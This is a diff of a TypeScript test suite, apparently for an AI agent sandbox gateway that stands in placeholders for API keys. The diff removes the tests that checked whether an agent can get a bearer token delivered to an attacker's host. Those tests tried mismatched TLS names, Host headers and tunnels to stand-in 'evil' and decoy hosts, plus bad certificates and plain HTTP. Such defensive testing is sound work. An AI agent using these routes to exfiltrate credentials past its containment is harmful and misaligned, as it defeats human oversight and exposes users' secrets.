@@ -1,8 +1,6 @@
 import { Buffer } from "node:buffer";
 import type { Finding } from "../case.ts";
-import { BAD_CERTIFICATES } from "../internet/certificates.ts";
-import type { Probe } from "../internet/probe/types.ts";
-import { connect, formatGet, raw, run } from "../internet/probes.ts";
+import { ask, BEARER, isBearer, OWN, tellStray } from "./asking.ts";
 import { type SecretCase, type SecretsGiven, SITE, type TriedSecrets } from "./given.ts";
 import {
   type Arrival,
@@ -16,31 +14,12 @@ import {
 
 const SUITE = "secrets";
 
-/** How long one of many requests at once may take on a busy machine, in seconds. */
-const PATIENCE_S = 25;
-
-/** One shell line as the agent, in which `$PROBE_KEY` is what the agent has. */
-export function shell(id: string, line: string): Probe {
-  return run(id, ["sh", "-c", line], { timeoutMs: (PATIENCE_S + 5) * 1_000 });
-}
-
-/** One request of curl's, its arguments as a shell reads them. */
-export function ask(id: string, args: string): Probe {
-  return shell(id, `curl -sS -m ${PATIENCE_S} ${args}`);
-}
-
-const BEARER = '-H "authorization: Bearer $PROBE_KEY"';
-const OWN = `https://${SITE.own}`;
-
 /** A way to use a placeholder where it is meant to be used, and what its host must be told. */
 type Use = readonly [
   what: string,
   args: string,
   isRight: (arrival: Arrival, secrets: TriedSecrets) => boolean,
 ];
-
-const isBearer: Use[2] = (arrival, { key }) =>
-  listHeader(arrival, "authorization").join() === `Bearer ${key.value}`;
 
 const USES: readonly Use[] = [
   ["a bearer token", `${BEARER} ${OWN}/0`, isBearer],
@@ -145,22 +124,6 @@ function tellHeld(arrival: Arrival, secrets: TriedSecrets): string[] {
     .map((what) => `${what} arrived at ${arrival.host}`);
 }
 
-/** Where the value of a secret is found that is not this one's. */
-function tellStray(
-  arrivals: readonly Arrival[],
-  { secrets, homes }: { secrets: TriedSecrets; homes: Record<keyof TriedSecrets, string> },
-): string[] {
-  return arrivals.flatMap((arrival) => {
-    const isHome = (use: string) =>
-      arrival.role === "echo" && arrival.sni === homes[use as keyof TriedSecrets];
-    const foreign = Object.entries(secrets).filter(([use]) => !isHome(use));
-    return listValuesIn(JSON.stringify(arrival), Object.fromEntries(foreign))
-      .map((what) => `${what} arrived at ${arrival.host}`);
-  });
-}
-
-const HOMES = { key: SITE.own, body: SITE.own, other: SITE.other };
-
 /** A placeholder in the right form that stands for nothing. */
 const UNKNOWN = `withheld_ph_${"0".repeat(40)}`;
 
@@ -184,7 +147,7 @@ async function checkEach({ guarded, secrets }: SecretsGiven): Promise<Finding> {
   // In bodies to a host that has a secret a placeholder is told and let through: it is worth nothing.
   const stopped = MISPLACED.filter(([, args]) => !args.startsWith("-d"));
   const evidence = [
-    ...tellStray(arrivals, { secrets, homes: HOMES }),
+    ...tellStray(arrivals, secrets),
     ...stopped.filter(([what]) => !isDenied(outcomes.get(what).data, "secret-foreign"))
       .map(([what]) => `${what} was not stopped`),
   ];
@@ -200,122 +163,8 @@ async function checkEach({ guarded, secrets }: SecretsGiven): Promise<Finding> {
   };
 }
 
-async function checkVerified({ guarded, secrets }: SecretsGiven): Promise<Finding> {
-  const { internet } = guarded;
-  const { decoy, echo } = internet.addresses;
-  const bad = Object.values(BAD_CERTIFICATES);
-  internet.script(SITE.stolen, { answers: [[decoy]] });
-  const outcomes = await guarded.probe([
-    ...[...bad, SITE.stolen].map((host) => ask(host, `${BEARER} https://${host}/`)),
-    ask("no TLS", `${BEARER} http://${SITE.own}/`),
-    ask("control", `${BEARER} ${OWN}/verified`),
-  ]);
-  const events = await internet.events();
-  internet.script(SITE.stolen, { answers: [[echo]] });
-  const arrivals = listArrivals(events);
-  const asked = new Set(events.flatMap((event) => event.kind === "dns" ? [event.name] : []));
-  const evidence = [
-    ...tellStray(arrivals, { secrets, homes: HOMES }),
-    ...arrivals.filter(({ path }) => path !== "/verified")
-      .map(({ host }) => `a request for ${host} was sent on`),
-    ...outcomes.all.flatMap(({ id, data }) =>
-      listValuesIn(data, secrets).map((what) => `${what} came back from ${id}`)
-    ),
-  ];
-  return {
-    held: evidence.length === 0,
-    control:
-      arrivals.some((arrival) => arrival.path === "/verified" && isBearer(arrival, secrets)) &&
-      [...bad, SITE.stolen].every((host) => asked.has(host)),
-    seen: `${bad.length} wrong certificates, a stolen address, no TLS: 0 requests sent on`,
-    evidence,
-  };
-}
-
-async function checkTheft({ guarded, secrets }: SecretsGiven): Promise<Finding> {
-  const { internet } = guarded;
-  const { decoy } = internet.addresses;
-  const get = (host: string, path: string) => [
-    formatGet(host, path).replace(
-      "\r\n\r\n",
-      `\r\nAuthorization: Bearer ${secrets.key.placeholder}\r\n\r\n`,
-    ),
-  ];
-  const tls = (sni: string) => ({ tls: { sni } });
-  const tries: Probe[] = [
-    raw("an attacker's name in TLS, the secret's host inside", {
-      ...{ host: "@gateway", port: 443 },
-      ...tls(SITE.evil),
-      send: get(SITE.own, "/theft"),
-    }),
-    raw("the attacker's address itself", {
-      ...{ host: decoy, port: 443 },
-      ...tls(SITE.own),
-      send: get(SITE.own, "/theft"),
-    }),
-    connect("a tunnel to the attacker", `${SITE.evil}:443`, {
-      ...tls(SITE.own),
-      send: get(SITE.own, "/theft"),
-    }),
-    connect("a tunnel to the attacker's address", `${decoy}:443`, {
-      ...tls(SITE.own),
-      send: get(SITE.own, "/theft"),
-    }),
-    connect("the secret's tunnel, an attacker's name in TLS", `${SITE.own}:443`, {
-      ...tls(SITE.evil),
-      send: get(SITE.own, "/theft"),
-    }),
-    connect("the secret's tunnel, an attacker's host inside", `${SITE.own}:443`, {
-      ...tls(SITE.own),
-      send: get(SITE.evil, "/theft"),
-    }),
-    connect("another host's tunnel, the secret's host inside", `${SITE.opened}:443`, {
-      ...tls(SITE.opened),
-      send: get(SITE.own, "/theft"),
-    }),
-    connect("a tunnel that is left alone, the secret's host inside", `${SITE.closed}:443`, {
-      ...tls(SITE.closed),
-      send: get(SITE.own, "/theft"),
-    }),
-  ];
-  await guarded.probe([
-    ...tries,
-    connect("control", `${SITE.own}:443`, { ...tls(SITE.own), send: get(SITE.own, "/control") }),
-  ]);
-  const events = await internet.events();
-  const arrivals = listArrivals(events);
-  const evidence = [
-    ...tellStray(arrivals, { secrets, homes: HOMES }),
-    ...arrivals.filter((arrival) => arrival.path === "/theft" && isBearer(arrival, secrets))
-      .map(({ host }) => `the value was put in for ${host}, which was not asked for as itself`),
-    ...events.flatMap((event) =>
-      (event.kind === "bytes" || event.kind === "tls") && event.role === "decoy"
-        ? ["the attacker was reached"]
-        : []
-    ),
-  ];
-  return {
-    held: evidence.length === 0,
-    control: arrivals.some((arrival) => arrival.path === "/control" && isBearer(arrival, secrets)),
-    seen: `${tries.length} ways, 0 values at other listeners`,
-    evidence,
-  };
-}
-
 /** What goes out with a secret in it. */
 export const GOING_OUT_CASES: readonly SecretCase[] = [
-  {
-    id: "N11",
-    suite: SUITE,
-    title: "no name in TLS, tunnel or Host gets a secret sent to somebody else",
-    threat: "an agent names the secret's host to the gateway and has it sent to its own machine",
-    expectation:
-      "eight ways to name two hosts, the value at no listener but its own; one name alone gets it",
-    source: "agentcage/agentcage#175, #214",
-    brokenBy: "a request is for whatever host it names",
-    quick: false,
-    check: checkTheft,
-  },
   {
     id: "S02",
     suite: SUITE,
@@ -327,18 +176,6 @@ export const GOING_OUT_CASES: readonly SecretCase[] = [
     brokenBy: "a placeholder is replaced for every host",
     quick: false,
     check: checkDestination,
-  },
-  {
-    id: "S11",
-    suite: SUITE,
-    title: "a value leaves over verified TLS alone",
-    threat: "whoever holds the name server, or the line, is given the key",
-    expectation:
-      "a stolen address, four wrong certificates and plain HTTP see no request; the real host sees one",
-    source: "sandcage",
-    brokenBy: "any certificate will do",
-    quick: false,
-    check: checkVerified,
   },
   {
     id: "S14",
